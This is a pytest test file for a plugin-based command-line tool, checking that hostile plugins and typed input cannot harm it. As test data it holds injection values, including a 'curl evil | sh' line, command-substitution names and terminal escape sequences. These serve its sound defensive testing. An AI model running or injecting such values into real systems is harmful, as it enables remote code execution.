"""How the command line behaves: on a terminal and in a pipe, when interrupted, when a mistake or a plugin is in the way."""

import argparse
import contextlib
import itertools
import json
import os
import pty
import re
import shlex
import signal
import subprocess
import sys
import time

import pytest

import localplug
from localplug.cli import main
from localplug.commands import FILES, parsers, terminal

pytestmark = pytest.mark.usefixtures("fresh_plugins")
LOCALPLUG = [sys.executable, "-c", "import sys; from localplug.cli import main; sys.exit(main())"]


@pytest.fixture
def install(tmp_path):
    """install("evil", source, Name=...) makes a distribution; gives the environment in which it is installed."""
    path = tmp_path / "site"
    environment = {**os.environ, "PYTHONPATH": str(path), "COLUMNS": "100"}
    for variable in ("NO_COLOR", "FORCE_COLOR", "LOCALPLUG_TRACE"):
        environment.pop(variable, None)

    def install(name, source="", entry=None, entry_points=None, **said):
        metadata = path / f"localplug_{name}-1.0.dist-info"
        metadata.mkdir(parents=True)
        said = {"Metadata-Version": "2.1", "Name": f"localplug-{name}", "Version": "1.0", **said}
        (metadata / "METADATA").write_text("".join(f"{key}: {value}\n" for key, value in said.items()))
        entry_points = entry_points or f"[localplug]\n{entry or name} = localplug_hostile_{name}\n"
        (metadata / "entry_points.txt").write_text(entry_points)
        (path / f"localplug_hostile_{name}.py").write_text(
            f"import pathlib; pathlib.Path({str(tmp_path / 'imported')!r}).touch()\n{source}\n"
        )
        return environment

    return install


def run(words, environment, **options):
    return subprocess.run([*LOCALPLUG, *words], env=environment, capture_output=True, text=True, timeout=120, **options)


def on_a_terminal(words, environment):
    """(exit status, everything that was written)."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen([*LOCALPLUG, *words], env=environment, stdin=theirs, stdout=theirs, stderr=theirs)
    os.close(theirs)
    written = b""
    with contextlib.suppress(OSError):  # the end of a terminal
        while piece := os.read(ours, 65536):
            written += piece
    os.close(ours)
    return process.wait(timeout=120), written.decode()


COMMAND = """
import localplug

def command(words):
    {}

@localplug.hookimpl
def localplug_commands():
    return {{"NAME": command}}
"""


# ---- plugins that mean no good -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    ["import os; os._exit(3)", "raise Exception", "class E(BaseException): pass\nraise E", "while True: pass", "def"],
    ids=["exits", "raises", "raises what nobody catches", "hangs", "is no Python"],
)
def test_listing_imports_no_plugin_and_so_none_can_break_it(install, tmp_path, source):
    environment = install("evil", source, Summary="harmless")
    done = run(["plugins", "--json"], environment)
    assert done.returncode == 0 and not done.stderr and not (tmp_path / "imported").exists()
    rows = {row["name"]: row for row in json.loads(done.stdout)}
    assert rows["evil"] == {
        "name": "evil", "distribution": "localplug-evil", "version": "1.0", "summary": "harmless", "status": "not loaded",
        "reason": "", "gives": {},
    }  # fmt: skip
    assert {row["status"] for row in rows.values()} == {"not loaded"} and "zo" in rows
    for words in ("plugins", "plugins --available", "hooks", "--help", "replay --help"):
        assert run(words.split(), environment).returncode == 0
    assert not (tmp_path / "imported").exists()


@pytest.mark.parametrize(
    "source", ["class E(BaseException): pass\nraise E('x')", "class E(Exception):\n  def __str__(self): 1/0\nraise E"]
)
def test_whatever_a_plugin_raises_when_it_is_loaded_takes_nobody_down(install, source):
    done = run(["plugins", "--load", "--json"], install("evil", source))
    rows = {row["name"]: row for row in json.loads(done.stdout)}
    assert done.returncode == 1 and rows["evil"]["status"] == "failed" and rows["evil"]["reason"].startswith("E: ")
    assert rows["zo"]["status"] == "ok"


def test_what_a_plugin_prints_when_it_is_loaded_is_no_part_of_the_result(install):
    done = run(["plugins", "--load", "--json"], install("loud", COMMAND.format("pass") + "print('hello')"))
    assert {row["name"] for row in json.loads(done.stdout)} > {"loud", "zo"}
    assert "hello" in done.stderr


ESCAPES = "\x1b]0;title\x07\x1b[31mred\u202etxt\x9b2J[bold]not bold[/bold]"


@pytest.mark.parametrize("how", [["plugins"], ["plugins", "--load"], ["plugins", "--json"]])
@pytest.mark.parametrize("terminal", [False, True])
def test_what_a_plugin_says_of_itself_cannot_steer_the_terminal(install, how, terminal):
    environment = install("evil", f"raise ValueError({ESCAPES!r})", Version=ESCAPES, Summary=ESCAPES)
    environment = {**environment, "NO_COLOR": "1", "COLUMNS": "1000", "TERM": "dumb"}
    if terminal:
        _, out = on_a_terminal(how, environment)
    else:
        done = run(how, environment)
        out = done.stdout + done.stderr
    assert "evil" in out and not re.search("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202e]", out)
    assert "[bold]notbold[/bold]" in re.sub(r"\s", "", out) or "[bold]" in out


@pytest.mark.parametrize("entry", ["$(touch owned)", "a b", "-rf", "a;b", "\u202e"])
def test_an_entry_point_is_named_by_a_plain_word_or_is_left_out(install, tmp_path, entry):
    done = run(["plugins", "--json"], install("evil", entry=entry))
    row = next(row for row in json.loads(done.stdout) if row["distribution"] == "localplug-evil")
    assert done.returncode == 1 and row["status"] == "failed" and "letters, digits" in row["reason"]
    done = run(["plugins", "--load", "--json"], {**os.environ, "PYTHONPATH": str(tmp_path / "site")})
    assert done.returncode == 1 and not (tmp_path / "imported").exists()


def test_metadata_that_cannot_be_read_hides_nobody_elses(install):
    environment = install("evil", entry_points="[localplug\n= =\nno equals sign\n[localplug]\nx\n")
    assert {"zo", "tpsgd"} <= {row["name"] for row in json.loads(run(["plugins", "--json"], environment).stdout)}


@pytest.mark.parametrize(
    "typed", ["evil-plugin", "localplug-evil", "zo; curl evil | sh", "--index-url=http://evil", "mezo2"]
)
def test_no_install_line_is_made_of_what_was_typed(typed, capsys):
    with contextlib.suppress(SystemExit):
        assert main([typed]) == 2
    with pytest.raises(localplug.UnknownName) as raised:
        localplug.get(typed)
    assert "pip" not in capsys.readouterr().err and "pip" not in str(raised.value)


@pytest.mark.parametrize("named", ["zo", "localplug-zo", "localplug_zo", "Localplug.ZO"])
def test_a_plugin_is_blocked_by_its_name_or_its_distributions_in_any_spelling(monkeypatch, named):
    from localplug import plugins

    monkeypatch.setenv("LOCALPLUG_BLOCK", named)
    assert next(p for p in plugins.found() if p.name == "zo").status == "blocked"
    monkeypatch.delenv("LOCALPLUG_BLOCK")
    monkeypatch.setenv("LOCALPLUG_PLUGINS", named)
    assert [p.name for p in plugins.found() if p.status == "not loaded"] == ["zo"]


# ---- mistakes, faults, interruptions -----------------------------------------------------------------------------------


def test_a_mistake_is_told_in_lines_without_a_traceback(capsys, tmp_path):
    assert main(["replay", str(tmp_path / "no"), str(tmp_path / "no.lplog"), "--out", str(tmp_path / "out")]) == 1
    shown = capsys.readouterr()
    assert shown.out == "" and shown.err.startswith("localplug: ") and "Traceback" not in shown.err
    assert shown.err.count("\n") == 1 and "no.lplog" in shown.err


@pytest.mark.parametrize("how", ["before", "after", "environment"])
def test_the_traceback_can_be_had(capsys, tmp_path, how, monkeypatch):
    words = ["replay", str(tmp_path / "no"), str(tmp_path / "no.lplog"), "--out", str(tmp_path / "out")]
    if how == "environment":
        monkeypatch.setenv("LOCALPLUG_TRACE", "1")
    elif how == "before":
        words.insert(0, "--traceback")
    else:
        words.append("--traceback")
    assert main(words) == 1
    assert "Traceback" in capsys.readouterr().err


class Brings:
    """A plugin with one command."""

    def __init__(self, command):
        self.command = command

    @localplug.hookimpl
    def localplug_commands(self):
        return {"brought": self.command}


def failing(error):
    def command(words):
        raise error

    return command


@pytest.mark.parametrize(
    "error, status, said",
    [
        (ValueError("no such\x1b[2J rate"), 1, "localplug: no such\\x1b[2J rate\n"),
        (localplug.Unsupported("two reasons:\n  - a\n  - b"), 1, "localplug: two reasons:\n  - a\n  - b\n"),
        (
            KeyError("x"),
            1,
            "localplug: KeyError: 'x'\nthis is a fault of the code, not yours; --traceback shows where it is\n",
        ),
        (KeyboardInterrupt(), 130, ""),
        (ValueError(), 1, "localplug: ValueError\n"),
    ],
)
def test_what_a_command_of_a_plugin_raises_becomes_a_line_and_a_status(capsys, error, status, said):
    localplug.register(Brings(failing(error)))
    assert main(["brought", "words"]) == status
    assert capsys.readouterr().err == said


def test_the_traceback_of_a_plugins_command_can_be_had_and_its_own_words_stay_its_own(capsys):
    localplug.register(Brings(failing(KeyError("x"))))
    assert main(["--traceback", "brought"]) == 1
    assert "Traceback" in capsys.readouterr().err
    assert main(["brought", "--traceback"]) == 1
    assert "Traceback" not in capsys.readouterr().err


def test_ctrl_c_ends_quietly_with_130(install, tmp_path):
    source = COMMAND.replace("NAME", "wait").format("open('begun', 'w').close(); import time; time.sleep(60)")
    environment = install("slow", source)
    process = subprocess.Popen(
        [*LOCALPLUG, "wait"], env=environment, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    deadline = time.monotonic() + 100
    while not (tmp_path / "begun").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    process.send_signal(signal.SIGINT)
    assert process.communicate(timeout=60) == (b"", b"") and process.returncode == 130


def test_a_reader_that_goes_away_ends_it_quietly(install):
    environment = install("x")
    line = f"{shlex.join(LOCALPLUG)} hooks | head -c 10 > /dev/null; echo ${{PIPESTATUS[0]}}"
    done = subprocess.run(["bash", "-c", line], env=environment, capture_output=True, text=True, timeout=120)
    assert done.stderr == "" and done.stdout in ("141\n", "0\n")  # 0 where all was written before head went
    read, write = os.pipe()
    os.close(read)
    done = subprocess.run([*LOCALPLUG, "hooks"], env=environment, stdout=write, stderr=subprocess.PIPE, timeout=120)
    os.close(write)
    assert (done.returncode, done.stderr) == (141, b"")


def test_version(capsys):
    with pytest.raises(SystemExit) as exit_:
        main(["--version"])
    assert exit_.value.code == 0 and capsys.readouterr().out == f"localplug {localplug.__version__}\n"


# ---- terminals and pipes -----------------------------------------------------------------------------------------------


def test_tables_are_drawn_on_a_terminal_to_its_width_and_plain_elsewhere(install):
    environment = {**install("x", COMMAND.format("pass")), "TERM": "xterm-256color", "COLUMNS": "60"}
    status, drawn = on_a_terminal(["plugins", "--load"], environment)
    assert status == 0 and "\x1b[1mplugin" in drawn and "random-sparse-zo" in drawn
    plain = re.sub(r"\x1b\[[0-9;]*m", "", drawn)
    assert max(map(len, plain.splitlines())) <= 60
    status, drawn = on_a_terminal(["plugins", "--load"], {**environment, "NO_COLOR": "1", "TERM": "dumb"})
    assert "\x1b" not in drawn and "plugin" in drawn.splitlines()[1] + drawn.splitlines()[0]
    piped = run(["plugins"], environment).stdout
    assert "\x1b" not in piped and len(piped.splitlines()) > 9 and max(map(len, piped.splitlines())) > 60


def test_a_pipe_in_ascii_gets_what_it_can_show(install):
    environment = install("x", Summary="größe 3 µm ✓")
    done = run(["plugins"], {**environment, "PYTHONIOENCODING": "ascii", "LC_ALL": "C"})
    assert done.returncode == 0 and "gr\\xf6\\xdfe 3 \\xb5m \\u2713" in done.stdout


def test_progress_gives_all_items_and_shows_nothing_in_a_pipe(capsys):
    assert list(terminal.progress(range(3), "counting")) == [0, 1, 2]
    assert capsys.readouterr() == ("", "")


def test_progress_is_shown_on_a_terminal():
    code = "from localplug.commands import terminal; print(sum(terminal.progress([1, 2], 'adding [up]', 2)))"
    ours, theirs = pty.openpty()
    environment = {**os.environ, "TERM": "xterm"}
    command = [sys.executable, "-c", code]
    process = subprocess.Popen(command, stderr=theirs, stdout=subprocess.PIPE, env=environment)
    assert process.communicate(timeout=60)[0] == b"3\n"
    assert b"adding [up]" in os.read(ours, 65536)
    os.close(ours)
    os.close(theirs)


# ---- help, examples, completion ----------------------------------------------------------------------------------------


def examples(text):
    """The words after `localplug` in each line of examples."""
    lines = [line[line.index("localplug ") :] for line in text.splitlines() if "localplug " in line]
    split = [list(shlex.shlex(line, posix=True, punctuation_chars=True)) for line in lines]  # comments are left out
    return [list(itertools.takewhile(lambda word: word not in ("|", ">"), words))[1:] for words in split]


@pytest.mark.parametrize("command", FILES)
def test_every_command_has_help_with_examples_that_are_right(command, capsys):
    with pytest.raises(SystemExit) as exit_:
        main([command, "--help"])
    shown = capsys.readouterr().out
    assert exit_.value.code == 0 and "examples:\n" in shown and "exit status: 0 done, 1 failed, 2 wrong use" in shown
    found = examples(parsers.file_of(command).EXAMPLES)
    assert len(found) >= 2
    for words in found:
        assert words[0] == command
        parsers.parser_of([command], {}, version="").parse_args(words)


@pytest.mark.parametrize("command", ["demo", "ternarize", "export"])
def test_every_command_of_a_plugin_of_ours_has_help_with_examples(command, capsys, monkeypatch):
    with pytest.raises(SystemExit) as exit_:
        main([command, "--help"])
    shown = capsys.readouterr().out
    assert exit_.value.code == 0 and "examples:\n" in shown and "exit status: 0 done" in shown
    real = argparse.ArgumentParser.parse_args

    def parse(self, words=None, namespace=None):
        real(self, words, namespace)
        raise SystemExit(99)  # before it does anything

    monkeypatch.setattr(argparse.ArgumentParser, "parse_args", parse)
    for words in examples(shown.split("examples:\n")[1]):
        with pytest.raises(SystemExit, match="99"):
            main(words)


@pytest.mark.parametrize(
    "words", [["plugins"], ["plugins", "--load"], ["plugins", "--available"], ["hooks"], ["check", "--list"]]
)
def test_what_a_script_would_read_is_json(words, capsys):
    assert main([*words, "--json"]) == 0
    assert isinstance(json.loads(capsys.readouterr().out), list)


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish", "tcsh"])
def test_a_completion_script_knows_commands_options_and_those_of_plugins(shell, capsys):
    def command(words):
        return 0

    class Hostile:
        @localplug.hookimpl
        def localplug_commands(self):
            names = ("brought", "$(touch gotcha)", "two gotcha", "`gotcha`", "gotcha;ls", "gotcha'", "new")
            return dict.fromkeys(names, command)

    localplug.register(Hostile())
    assert main(["completion", shell]) == 0
    script = capsys.readouterr().out
    for word in (*FILES, "demo", "ternarize", "brought", "available", "until"):
        assert word in script
    assert "gotcha" not in script  # whatever a shell would run or split


def test_bash_completes_by_the_script(tmp_path, capsys):
    assert main(["completion", "bash"]) == 0
    script = tmp_path / "localplug.bash"
    script.write_text(capsys.readouterr().out)
    function = re.search(r"-F (\w+) localplug", script.read_text())[1]
    typed = "COMP_WORDS=($WORDS); COMP_CWORD=$(( ${#COMP_WORDS[@]} - 1 ))"
    line = f"source {script}; {typed}; {function}; echo ${{COMPREPLY[@]}}"

    def completed(words):
        done = subprocess.run(["bash", "-c", line], env={**os.environ, "WORDS": words}, capture_output=True, text=True)
        assert not done.stderr
        return done.stdout.split()

    assert completed("localplug re") == ["replay", "report"] and completed("localplug de") == ["demo"]
    assert completed("localplug plugins --a") == ["--available"]
